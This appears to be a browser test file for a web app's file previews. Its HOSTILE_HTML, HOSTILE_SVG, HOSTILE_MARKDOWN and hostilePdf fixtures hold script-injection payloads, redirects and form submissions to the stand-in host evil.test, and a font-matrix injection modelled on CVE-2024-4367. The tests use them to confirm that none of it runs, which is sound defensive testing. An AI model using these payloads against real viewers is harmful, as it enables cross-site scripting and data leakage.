import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { Hono } from "hono";
import { secureHeaders } from "hono/secure-headers";
import { type Browser, type BrowserContextOptions, chromium, type Page } from "playwright-core";
import { Layout } from "../../templates/layout.tsx";
import { Preview } from "../../templates/preview.tsx";
import { toWisError } from "../errors.ts";
import { chromiumArgs, chromiumPath } from "../testing/chromium.ts";
import { pdfOf, streamOf } from "../testing/pdf.ts";
import { type ShownFiles, shownFiles } from "../testing/shown-files.ts";
import { wav } from "../testing/wav.ts";
import { assetUrls, previewUrls } from "./assets.ts";
import type { WebEnv } from "./env.ts";
import { page as answerPage } from "./page.ts";
import { servePdfAsset } from "./preview-assets.ts";
import { createPreviews } from "./preview-content.ts";
import { previewPolicy } from "./preview-policy.ts";
import { statusOf } from "./problem.ts";
import { createRateGate } from "./rates.ts";
import { serveAsset } from "./routes/assets.ts";
import { view } from "./routes/view.ts";

// A browser on a busy machine.
setDefaultTimeout(30_000);

let browser: Browser;
let shown: ShownFiles;
let server: Bun.Server<undefined>;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: chromiumPath(), args: chromiumArgs });
  shown = await shownFiles();
  const app = previewApp(shown);
  server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch: (request, server) => app.fetch(request, { server }),
  });
});
afterAll(async () => {
  await browser?.close();
  await server?.stop(true);
  await shown?.[Symbol.asyncDispose]();
});

/** Pages with a preview and nothing else, under the policy that the share page has. */
function previewApp({ files }: ShownFiles) {
  const app = new Hono<WebEnv>();
  const previews = createPreviews({ files });
  app.onError((error, c) => c.text(toWisError(error).say, statusOf[toWisError(error).code]));
  app.use(
    secureHeaders({
      overwrite: false,
      contentSecurityPolicy: {
        defaultSrc: ["'none'"],
        scriptSrc: ["'self'"],
        styleSrc: ["'self'"],
        imgSrc: ["'self'"],
        connectSrc: ["'self'"],
        baseUri: ["'none'"],
        formAction: ["'none'"],
        frameAncestors: ["'none'"],
        requireTrustedTypesFor: ["'script'"],
        ...previewPolicy,
      },
    }),
  );
  app.get("/assets/:name", serveAsset);
  app.get("/assets/:folder/:name", servePdfAsset);
  const door = { gate: createRateGate(), unlockAgain: files.unlock, publicUrl: "http://wisbot.test" };
  app.get("/f/:id/view", view({ files, ...door }));
  app.get("/f/:id", async (c) => {
    const file = await files.get(c.req.param("id"));
    const content = await previews.contentOf(file);
    const children = Preview({ assets: previewUrls, name: file.name, view: `/f/${file.id}/view`, content });
    return answerPage(c, Layout({ assets: assetUrls, version: "0.0.0-test", title: file.name, children }));
  });
  return app;
}

const at = (id: string) => `${server.url.origin}/f/${id}`;
const put = async (name: string, type: string, bytes: Uint8Array | string) =>
  at(await shown.add(name, type, bytes));

/** A page of a fresh profile on this address. Whatever acts in it, or leaves our own host, fails the test at the end. */
async function open(
  url: string,
  options: BrowserContextOptions = {},
): Promise<Page & { visit(url: string): Promise<void> } & AsyncDisposable> {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  const wrong: string[] = [];
  page.on("dialog", async (dialog) => {
    wrong.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("pageerror", (error) => wrong.push(String(error)));
  page.on("console", (message) => {
    if (/Content Security Policy|Trusted ?Type|sandbox/i.test(message.text())) wrong.push(message.text());
  });
  // Of the context: what workers ask for and what opens in other tabs counts too.
  context.on("request", (request) => {
    if (new URL(request.url()).origin !== server.url.origin) wrong.push(`request: ${request.url()}`);
  });
  context.on("page", (other) => wrong.push(`new page: ${other.url()}`));
  page.on("download", (download) => wrong.push(`download: ${download.url()}`));
  const visited = new Set<string>();
  page.on("framenavigated", (frame) => {
    if (!visited.has(frame.url())) wrong.push(`navigation: ${frame.url()}`);
  });
  const visit = async (url: string) => {
    visited.add(url);
    await page.goto(url);
  };
  await visit(url);
  return Object.assign(page, {
    visit,
    async [Symbol.asyncDispose]() {
      await context.close();
      expect(wrong).toEqual([]);
    },
  });
}

const HOSTILE_HTML = `<!DOCTYPE html><script>alert(1); location = "https://evil.test"</script>
<img src="https://evil.test/x.png" onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.test">`;
const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>
<image href="https://evil.test/x.png"/><foreignObject><iframe src="https://evil.test"/></foreignObject></svg>`;
const HOSTILE_MARKDOWN = `# Hello\n\n<script>alert(1)</script>\n\n![x](https://evil.test/x.png)\n
[click](javascript:alert(2)) [out](https://example.test/)\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n\`\`\`js\nlet a;\n\`\`\``;

const SCRIPT = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;
const hostilePdf = (pages = 3, ...more: string[]) =>
  pdfOf(
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT("app.alert\\(1\\); this.submitForm\\('https://evil.test'\\)")}
     /AA << /WC ${SCRIPT("app.alert\\(2\\)")} >> /AcroForm << /Fields [6 0 R] >>
     /Names << /JavaScript << /Names [(a) ${SCRIPT("app.launchURL\\('https://evil.test'\\)")}] >> >> >>`,
    `<< /Type /Pages /Kids [${"3 0 R ".repeat(pages)}] /Count ${pages} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /Annots [6 0 R 7 0 R]
     /Resources << /Font << /F 5 0 R >> >> /AA << /O ${SCRIPT("app.alert\\(3\\)")} >> >>`,
    streamOf("BT /F 32 Tf 40 300 Td (Hello reader) Tj ET 0 0 1 rg 40 40 200 100 re f"),
    // A font name that once became code: CVE-2024-4367 (GHSA-wgrm-67xf-hhpq).
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(4\\)//)] >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 300 400] /AA << /E ${SCRIPT("app.alert\\(5\\)")} >> >>`,
    "<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://evil.test) >> >>",
    ...more,
  );

describe("what could act is shown and does not", () => {
  test.each([
    ["an HTML page", "a.html", "text/html", HOSTILE_HTML],
    ["an SVG", "a.svg", "image/svg+xml", HOSTILE_SVG],
    ["an SVG that is called a picture", "a.png.svg", "image/svg+xml", HOSTILE_SVG],
    ["an HTML page that is called text", "a.txt", "text/plain", HOSTILE_HTML],
  ])("%s is its source", async (_, name, type, text) => {
    await using page = await open(await put(name, type, text));
    const code = page.getByRole("region", { name: "Contents of" }).locator("code");
    if (!name.endsWith(".txt")) await page.locator("code[data-coloured]").waitFor();
    expect(await code.textContent()).toBe(text);
  });

  test("an HTML page that is called a picture is a broken picture, by itself too", async () => {
    const url = await put("a.png", "image/png", HOSTILE_HTML);
    await using page = await open(url);
    await page.waitForFunction(() => document.querySelector<HTMLImageElement>(".preview-picture")?.complete);
    expect(
      await page.evaluate(() => document.querySelector<HTMLImageElement>(".preview-picture")?.naturalWidth),
    ).toBe(0);
    await using alone = await open(`${url}/view`);
    expect(await alone.locator("script, iframe").count()).toBe(0);
  });

  test("Markdown is laid out, and clicking its refused link does nothing", async () => {
    await using page = await open(await put("a.md", "text/markdown", HOSTILE_MARKDOWN));
    await page.getByRole("heading", { name: "Hello", level: 2 }).waitFor();
    await page.getByText("[Picture: x]").waitFor();
    await page.getByText("[click](javascript:alert(2))").click();
    expect(await page.getByRole("link", { name: "out" }).getAttribute("rel")).toContain("noopener");
    expect(await page.locator(".preview script, .preview img").count()).toBe(0);
  });

  test("a PDF full of script is drawn", async () => {
    await using page = await open(await put("a.pdf", "application/pdf", hostilePdf()));
    await page.locator('[data-page="1"] canvas').waitFor();
    expect(await pixelsOf(page, [0, 0, 255])).toBeGreaterThan(1000);
    await page.locator('[data-page="1"]').click();
    expect(await page.locator('[data-page="1"] canvas').textContent()).toBe("Hello reader");
    expect(await page.locator("[data-status]").textContent()).toBe("");
  });
});

describe("a PDF", () => {
  test("is drawn page by page as one gets there, and far pages are let go", async () => {
    await using page = await open(await put("a.pdf", "application/pdf", hostilePdf(40)));
    await page.locator('[data-page="1"] canvas').waitFor();
    expect(await page.locator("[data-page]").count()).toBe(40);
    expect(await page.locator('[data-page="40"] canvas').count()).toBe(0);
    await page.getByRole("region").focus();
    await page.keyboard.press("End");
    await page.locator('[data-page="40"] canvas').waitFor();
    await page.waitForFunction(() => !document.querySelector('[data-page="1"] canvas'));
  });

  test("made by a browser, with fonts of its own, is drawn", async () => {
    await using source = await open(await put("a.md", "text/markdown", "# Fonts\n\nGrüße, *curved*"));
    const pdf = await source.pdf();
    await using page = await open(await put("a.pdf", "application/pdf", pdf));
    await page.locator('[data-page="1"] canvas').waitFor();
    expect(await page.locator('[data-page="1"] canvas').textContent()).toContain("Grüße, curved");
  });

  test("that is a fax is drawn, by a decoder that the worker may load", async () => {
    // Eight white lines in CCITT group 4, turned black.
    const image = streamOf(
      "FF001001>",
      `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0]
       /Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 8 /Rows 8 >>]`,
    );
    const fax = pdfOf(
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 80 80] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
      streamOf("40 0 0 40 20 20 cm /I Do"),
      image,
    );
    await using page = await open(await put("a.pdf", "application/pdf", fax));
    await page.locator('[data-page="1"] canvas').waitFor();
    expect(await pixelsOf(page, [0, 0, 0])).toBeGreaterThan(1000);
  });

  test("that is large is fetched in the parts that are needed", async () => {
    const large = hostilePdf(3, streamOf("x".repeat(5_000_000)));
    await using page = await open(await put("a.pdf", "application/pdf", large));
    await page.locator('[data-page="1"] canvas').waitFor();
    const fetched = await page.evaluate(() =>
      performance
        .getEntriesByType("resource")
        .filter((entry) => entry instanceof PerformanceResourceTiming && entry.name.endsWith("/view"))
        .reduce((sum, entry) => sum + ("encodedBodySize" in entry ? Number(entry.encodedBodySize) : 0), 0),
    );
    expect(fetched).toBeGreaterThan(0);
    expect(fetched).toBeLessThan(2_500_000);
  });

  test.each([
    ["that is damaged", "%PDF-1.7\nnothing more"],
    ["that is none", "<script>alert(1)</script>"],
  ])("%s says so", async (_, text) => {
    await using page = await open(await put("a.pdf", "application/pdf", text));
    await page.getByText("This PDF can’t be shown here. Download it to open it.").waitFor();
  });

  test("says without JavaScript what to do", async () => {
    await using page = await open(await put("a.pdf", "application/pdf", hostilePdf()), {
      javaScriptEnabled: false,
    });
    await page.locator("noscript p").waitFor();
  });
});

describe("sound", () => {
  test("plays and seeks", async () => {
    await using page = await open(await put("a.wav", "audio/wav", wav({ seconds: 20 })));
    const audio = page.locator("audio");
    await page.waitForFunction(() => (document.querySelector("audio")?.duration ?? 0) > 19);
    await audio.evaluate(async (element) => {
      if (!(element instanceof HTMLAudioElement)) throw new TypeError("no sound");
      const seeked = new Promise((resolve) => element.addEventListener("seeked", resolve, { once: true }));
      element.currentTime = 15;
      await seeked;
    });
    expect(
      await audio.evaluate((element) => element instanceof HTMLAudioElement && element.currentTime),
    ).toBe(15);
  });
});

describe("code", () => {
  test("that keeps its grammar busy stays plain, and the page stays quick", async () => {
    const text = "aA\n".repeat(20_000);
    await using page = await open(await put("a.cs", "text/plain", text));
    const worker = page.workers()[0] ?? (await page.waitForEvent("worker"));
    if (page.workers().includes(worker)) await worker.waitForEvent("close");
    expect(await page.locator("code").textContent()).toBe(text);
    expect(await page.locator("code span").count()).toBe(0);
  });

  test("of 256 KiB is coloured", async () => {
    const text = `const a = "b"; // c\n`.repeat(20_000);
    await using page = await open(await put("a.ts", "text/plain", text));
    await page.locator("code[data-coloured]").waitFor();
    await page.getByText("Only the first 262 kB are shown").waitFor();
    expect(await page.locator("code span.code-keyword").first().textContent()).toBe("const");
  });
});

describe("formulas", () => {
  test("have a size, are drawn with the page's own means, and scroll where they are wide", async () => {
    const wide = `$$${"a + ".repeat(60)}a$$`;
    const text = `A $\\frac{1}{2}$ of\n\n$$\n\\sum_{i=1}^{n} \\vec{v}_i\n$$\n\n${wide}\n\nIn $a ${"+ a".repeat(60)}$ too.`;
    await using page = await open(await put("a.md", "text/markdown", text));
    const [inline, display, ...others] = await page.locator("math").all();
    const heights = await Promise.all(
      [inline, display].map(async (one) => (await one?.boundingBox())?.height),
    );
    expect(heights[0]).toBeGreaterThan(16);
    expect(heights[1]).toBeGreaterThan(30);
    for (const math of others) {
      const parent = math.locator("..");
      expect(await parent.evaluate(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth)).toBe(true);
    }
    expect(others).toHaveLength(2);
  });
});

describe("every preview", () => {
  test.each(["light", "dark"] as const)("fits a small phone, %s", async (colorScheme) => {
    const long = `const a = "${"x".repeat(500)}";\n// ${"word ".repeat(200)}\n`;
    const urls = [
      await put("a.ts", "text/plain", long),
      await put("a.txt", "text/plain", long),
      await put(
        "a.md",
        "text/markdown",
        `${HOSTILE_MARKDOWN}\n\n    ${long}\n|${"a|".repeat(40)}\n|${"-|".repeat(40)}\n\n- $${"x+".repeat(90)}x$\n\n$$${"x+".repeat(90)}x$$\n`,
      ),
      await put("a.pdf", "application/pdf", hostilePdf()),
      await put("a.wav", "audio/wav", wav({ seconds: 1 })),
      await put("a.mp4", "video/mp4", "no film"),
    ];
    await using page = await open(urls[0] ?? "", { viewport: { width: 360, height: 740 }, colorScheme });
    for (const url of urls) {
      await page.visit(url);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
    }
  });
});

/** How many pixels of the first page have this colour. */
function pixelsOf(page: Page, colour: [red: number, green: number, blue: number]): Promise<number> {
  return page.evaluate(([red, green, blue]) => {
    const canvas = document.querySelector<HTMLCanvasElement>('[data-page="1"] canvas');
    const { data = [] } = canvas?.getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height) ?? {};
    let found = 0;
    for (let at = 0; at < data.length; at += 4) {
      if (data[at] === red && data[at + 1] === green && data[at + 2] === blue) found++;
    }
    return found;
  }, colour);
}
